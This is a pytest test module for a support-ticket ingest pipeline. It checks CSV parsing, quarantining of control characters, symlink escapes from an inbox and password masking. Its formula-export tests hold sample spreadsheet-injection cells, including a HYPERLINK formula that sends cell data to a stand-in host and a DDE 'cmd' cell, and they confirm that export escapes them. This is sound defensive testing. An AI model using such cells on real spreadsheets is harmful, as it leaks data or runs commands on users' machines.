"""Every file is read as what it is (issue 22, ingest side).

Trailing separators and ragged lines, control characters, formula cells in
exports, symbolic links in the inbox, and a SQL source's password in a flow's
parameters: each test reproduces one finding with real files.
"""

from __future__ import annotations

import csv
import json
import os
from collections.abc import Iterator
from pathlib import Path

import pandas as pd
import pytest
import sqlalchemy as sa

from triage_ml import ingest, store, synth
from triage_ml.errors import InputError
from triage_ml.ingest import ColumnMapping, IngestOptions, inbox, quarantine
from triage_ml.ingest.sources import SqlSource

pytestmark = pytest.mark.unit
OPTIONS = IngestOptions(synth.PRIORITIES)
HEADER = "ticket_id,subject,body,category,priority"
GOOD_ROWS = ("T1,Refund,charged twice,Billing,high", "T2,Login,cannot log in,Account,low")


@pytest.fixture
def sqlite_engine(tmp_path: Path) -> Iterator[sa.Engine]:
    """A ticket store for tests about reading files, where the database does not matter."""
    engine = store.connect(f"sqlite:///{tmp_path / 'store.db'}")
    yield engine
    engine.dispose()


def write(path: Path, *lines: str) -> Path:
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


def stored(engine: sa.Engine) -> dict[str, dict[str, str]]:
    columns = ("ticket_id", "subject", "body", "category", "priority")
    with engine.connect() as conn:
        rows = conn.execute(sa.select(*(store.tickets.c[c] for c in columns))).all()
    return {r[0]: dict(zip(columns[1:], r[1:])) for r in rows}


def table_counts(engine: sa.Engine) -> tuple[int, ...]:
    with engine.connect() as conn:
        return tuple(
            store.count_rows(conn, t) for t in (store.tickets, store.batches, store.quarantine)
        )


EXPECTED = {
    "T1": {"subject": "Refund", "body": "charged twice", "category": "Billing", "priority": "high"},
    "T2": {"subject": "Login", "body": "cannot log in", "category": "Account", "priority": "low"},
}


# ---- finding 1: trailing separators, ragged lines, index-like columns ---------------


@pytest.mark.parametrize(
    "lines",
    [
        pytest.param((HEADER, *(r + "," for r in GOOD_ROWS)), id="trailing-comma-on-every-row"),
        pytest.param((HEADER, GOOD_ROWS[0], GOOD_ROWS[1] + ","), id="trailing-comma-on-some-rows"),
        pytest.param((HEADER + ",", *GOOD_ROWS), id="header-with-an-extra-empty-column"),
        pytest.param((HEADER + ",", GOOD_ROWS[0] + ",", GOOD_ROWS[1]), id="both-and-mixed"),
        pytest.param((HEADER, GOOD_ROWS[0] + ",,", GOOD_ROWS[1]), id="two-trailing-commas"),
    ],
)
def test_trailing_separators_are_stored_in_the_right_columns(
    sqlite_engine: sa.Engine, tmp_path: Path, lines: tuple[str, ...]
) -> None:
    path = write(tmp_path / "export.csv", *lines)
    summary = ingest.ingest_tickets(sqlite_engine, path, ColumnMapping(), OPTIONS)
    assert (summary.read, summary.stored, summary.quarantined) == (2, 2, 0)
    assert stored(sqlite_engine) == EXPECTED


def test_a_leading_index_column_is_kept_apart_from_the_ticket_columns(
    sqlite_engine: sa.Engine, tmp_path: Path
) -> None:
    # What DataFrame.to_csv() writes by default: an unnamed first column of row numbers.
    path = write(
        tmp_path / "indexed.csv", "," + HEADER, *(f"{i}," + r for i, r in enumerate(GOOD_ROWS))
    )
    ingest.ingest_tickets(sqlite_engine, path, ColumnMapping(), OPTIONS)
    assert stored(sqlite_engine) == EXPECTED


@pytest.mark.parametrize(
    ("bad_line", "fields"),
    [
        pytest.param("T3,Parcel,where, is it,Shipping,normal", 6, id="too-many-fields"),
        pytest.param("T3,Parcel,where is it,Shipping", 4, id="too-few-fields"),
        pytest.param("T3,Parcel,where is it,Shipping,normal,urgent", 6, id="value-past-the-header"),
    ],
)
def test_a_ragged_line_fails_the_file_naming_the_line(
    sqlite_engine: sa.Engine, tmp_path: Path, bad_line: str, fields: int
) -> None:
    ingest.ingest_tickets(
        sqlite_engine, write(tmp_path / "a.csv", HEADER, *GOOD_ROWS), ColumnMapping(), OPTIONS
    )
    before = table_counts(sqlite_engine)
    # The bad line comes after a quoted value spanning two lines: line 5 of the file.
    path = write(
        tmp_path / "ragged.csv", HEADER, 'T4,Two,"two\nlines",Billing,low', GOOD_ROWS[0], bad_line
    )
    with pytest.raises(InputError) as error:
        ingest.ingest_tickets(sqlite_engine, path, ColumnMapping(), OPTIONS)
    message = str(error.value)
    assert "\n" not in message
    assert f"line 5 has {fields} fields, but the header names 5 columns" in message
    assert table_counts(sqlite_engine) == before


def test_a_ragged_line_in_a_later_chunk_leaves_the_store_as_it_was(
    sqlite_engine: sa.Engine, tmp_path: Path
) -> None:
    rows = [f"T{i},s,body {i},{('Billing', 'Account')[i % 2]},high" for i in range(50)]
    path = write(tmp_path / "late.csv", HEADER, *rows, "T99,s,b,Billing")
    with pytest.raises(InputError, match="line 52 has 4 fields"):
        ingest.ingest_tickets(
            sqlite_engine, path, ColumnMapping(), IngestOptions(synth.PRIORITIES, 10)
        )
    assert table_counts(sqlite_engine) == (0, 0, 0)


# ---- finding 7: control characters anywhere in the file -----------------------------


def test_nul_and_control_characters_past_the_first_8_kib_are_quarantined(
    engine: sa.Engine, tmp_path: Path
) -> None:
    """On SQLite and on PostgreSQL (which cannot store a NUL): rows quarantined, batch stored."""
    filler = [
        f"F{i},s,{'long enough body ' * 6},{('Billing', 'Account')[i % 2]},high" for i in range(100)
    ]
    bad = {
        "N1": ("secret\x00text", "U+0000 (NUL)"),
        "N2": ("bell\x07here", "U+0007"),
        "N3": ("red \x1b[31m text", "U+001B (ESC)"),
        "N4": ("c1 \x85 control", "U+0085"),
    }
    lines = [HEADER, *filler, *(f"{k},s,{v},Billing,high" for k, (v, _) in bad.items())]
    lines.append("N5,s,tabs\tand\r\nline breaks are text,Account,low".replace("\r\n", " "))
    path = write(tmp_path / "controls.csv", *lines)
    assert path.read_bytes().index(b"\x00") > 8192

    summary = ingest.ingest_tickets(engine, path, ColumnMapping(), OPTIONS)

    assert (summary.read, summary.stored, summary.quarantined) == (105, 101, 4)
    with engine.connect() as conn:
        records = quarantine.list_records(conn)
        kept = conn.execute(sa.select(store.tickets.c.ticket_id)).scalars().all()
    assert sorted(records, key=lambda r: r["row_number"])[0]["row_number"] == 101
    reasons = {r["row_number"]: r["reasons"] for r in records}
    for n, (_, name) in enumerate(bad.values(), start=101):
        assert reasons[n] == [f"body: control character {name}"]  # the reason holds no text
    assert not set(bad) & set(kept) and "N5" in kept
    with engine.connect() as conn:
        shown = quarantine.show_record(conn, records[-1]["id"])
    assert shown["raw"]["body"] == "secret\x00text"  # kept as it was, for fixing


def test_control_characters_from_a_sql_source_are_quarantined(
    sqlite_engine: sa.Engine, tmp_path: Path
) -> None:
    url = f"sqlite:///{tmp_path / 'helpdesk.db'}"
    frame = pd.DataFrame(
        {
            "ticket_id": ["S1", "S2", "S3"],
            "body": ["fine", "nul\x00", "ok"],
            "category": ["A", "B", "B"],
        }
    )
    frame.to_sql("t", sa.create_engine(url), index=False)
    summary = ingest.ingest_tickets(
        sqlite_engine, SqlSource(url, table="t"), ColumnMapping(), OPTIONS
    )
    assert (summary.stored, summary.quarantined) == (2, 1)


# ---- finding 8: exports are safe to open in a spreadsheet ---------------------------

FORMULAS = {
    "Q1": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "Q2": "=cmd|' /C calc'!A0",
    "Q3": "+1+1",
    "Q4": "-2+3",
    "Q5": "@SUM(A1:A2)",
    "Q6": "'already quoted",
    "Q7": "plain text, - not at the start",
}


@pytest.fixture
def formula_batch(sqlite_engine: sa.Engine, tmp_path: Path) -> ingest.IngestSummary:
    """Tickets whose bodies look like formulas, all quarantined for a priority off the scale."""
    rows = [
        {
            "ticket_id": k,
            "subject": "=1+2",
            "body": v,
            "category": "Billing",
            "priority": "sky-high",
        }
        for k, v in FORMULAS.items()
    ]
    path = tmp_path / "formulas.csv"
    pd.DataFrame(rows).to_csv(path, index=False)
    return ingest.ingest_tickets(sqlite_engine, path, ColumnMapping(), OPTIONS)


def test_export_escapes_cells_a_spreadsheet_would_run(
    sqlite_engine: sa.Engine, formula_batch: ingest.IngestSummary, tmp_path: Path
) -> None:
    out = tmp_path / "fix.csv"
    with sqlite_engine.connect() as conn:
        assert quarantine.export_records(conn, out) == len(FORMULAS)
    with out.open(newline="", encoding="utf-8") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    with out.open(newline="", encoding="utf-8") as handle:
        bodies = {r["ticket_id"]: r["body"] for r in csv.DictReader(handle)}
    assert bodies == {k: (v if k == "Q7" else "'" + v) for k, v in FORMULAS.items()}


def test_release_from_an_escaped_export_restores_every_value(
    sqlite_engine: sa.Engine, formula_batch: ingest.IngestSummary, tmp_path: Path
) -> None:
    out = tmp_path / "fix.csv"
    with sqlite_engine.connect() as conn:
        quarantine.export_records(conn, out)
    fixed = pd.read_csv(out, dtype=str, keep_default_na=False)
    fixed["priority"] = "high"
    fixed.to_csv(out, index=False)

    result = quarantine.release(sqlite_engine, synth.PRIORITIES, fixed=out)

    assert result["released"] == len(FORMULAS)
    assert {k: v["body"] for k, v in stored(sqlite_engine).items()} == FORMULAS
    assert {v["subject"] for v in stored(sqlite_engine).values()} == {"=1+2"}


# ---- finding 10: the inbox never follows a link out of it ---------------------------


@pytest.fixture
def inbox_root(tmp_path: Path) -> Path:
    root = tmp_path / "inbox"
    inbox.ensure_layout(root)
    return root


def test_the_inbox_refuses_symlinks_that_leave_it(inbox_root: Path, tmp_path: Path) -> None:
    (tmp_path / "outside").mkdir()
    secret = write(tmp_path / "outside" / "secret.csv", HEADER, *GOOD_ROWS)
    (inbox_root / "tickets" / "escape.csv").symlink_to(secret)
    (inbox_root / "tickets" / "dangling.csv").symlink_to(inbox_root / "nowhere.csv")
    (inbox_root / "tickets" / "up.csv").symlink_to(Path("..") / ".." / "outside" / "secret.csv")
    inside = write(inbox_root / "tickets" / "real.csv", HEADER, *GOOD_ROWS)
    os.utime(inside, (1, 1))  # oldest first: the plain file is taken before the links
    (inbox_root / "tickets" / "inside.csv").symlink_to(inside)
    read: list[str] = []

    def ingest_one(item: inbox.InboxFile) -> ingest.IngestSummary:
        read.append(item.path.name)
        return ingest.IngestSummary(batch_id="b", kind="tickets", source=str(item.path))

    report = inbox.drain(inbox_root, ingest_one).as_dict()

    assert read == ["real.csv"]  # inside.csv points at real.csv, which is gone by then
    failed = {Path(f["file"]).name.split("-", 1)[1]: f["reason"] for f in report["failed"]}
    assert set(failed) == {"escape.csv", "dangling.csv", "up.csv", "inside.csv"}
    assert "symbolic link out of the inbox" in failed["escape.csv"]
    assert "symbolic link out of the inbox" in failed["up.csv"]
    assert "to no regular file" in failed["dangling.csv"]
    moved = inbox_root / "failed" / "tickets"
    links = [p for p in moved.iterdir() if not p.name.endswith(".reason.txt")]
    assert len(links) == 4 and all(p.is_symlink() for p in links)  # the links moved, not read
    assert secret.read_text(encoding="utf-8").startswith(HEADER)  # the target is untouched
    assert not list((inbox_root / "tickets").iterdir())


def test_a_symlink_to_a_file_inside_the_inbox_is_ingested(inbox_root: Path) -> None:
    staged = inbox_root / "staging"
    staged.mkdir()
    target = write(staged / "t.csv", HEADER, *GOOD_ROWS)
    (inbox_root / "tickets" / "link.csv").symlink_to(target)
    read: list[str] = []

    def ingest_one(item: inbox.InboxFile) -> ingest.IngestSummary:
        read.append(item.path.name)
        return ingest.IngestSummary(batch_id="b", kind="tickets", source=str(item.path))

    report = inbox.drain(inbox_root, ingest_one).as_dict()
    assert read == ["link.csv"] and report["failed"] == []


# ---- finding 5: a SQL source's password never travels with a flow's parameters ------


def test_a_sql_source_serialises_with_its_password_masked() -> None:
    from fastapi.encoders import jsonable_encoder

    source = SqlSource("postgresql://triage:s3cret@db.example/helpdesk", table="tickets")
    encoded = jsonable_encoder(source)
    assert encoded == {
        "url": "postgresql://triage:***@db.example/helpdesk",
        "query": None,
        "table": "tickets",
    }
    assert "s3cret" not in repr(source) and "s3cret" not in json.dumps(encoded)
    assert source.url.endswith("s3cret@db.example/helpdesk")  # the flow still gets the real one
    assert SqlSource.model_validate(source.model_dump()) == source
    with pytest.raises(InputError, match="exactly one of"):
        SqlSource.model_validate({"url": "sqlite://"})
